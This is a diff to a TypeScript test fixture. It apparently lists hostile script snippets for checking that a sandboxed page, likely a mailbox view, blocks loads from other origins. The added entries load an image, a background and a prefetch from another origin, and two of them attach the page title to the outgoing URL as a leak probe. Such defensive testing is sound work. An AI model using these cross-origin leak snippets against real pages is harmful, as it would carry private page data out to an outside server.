@@ -40,6 +40,12 @@ export const hostileAttempts = (other: string): Record<string, string> => ({
     integrity: 'sha384-${'A'.repeat(64)}',
   })`,
   'a style sheet of another origin': `loads('link', { rel: 'stylesheet', href: '${other}/mailbox.css' })`,
+  'a picture of another origin': `loads('img', { src: '${other.replace('http:', 'https:')}/?' + document.title })`,
+  'a background of another origin': `(() => {
+    document.body.style.backgroundImage = "url('${other.replace('http:', 'https:')}/background')";
+    return new Promise((done) => setTimeout(() => done(false), 200));
+  })()`,
+  'a prefetch of another origin': `loads('link', { rel: 'prefetch', href: '${other}/?' + document.title })`,
   'a style element in markup': `(() => {
     document.body.insertAdjacentHTML('beforeend', '<style>body { outline: 3px solid rgb(1, 2, 3) }</style>');
     return getComputedStyle(document.body).outlineColor === 'rgb(1, 2, 3)';
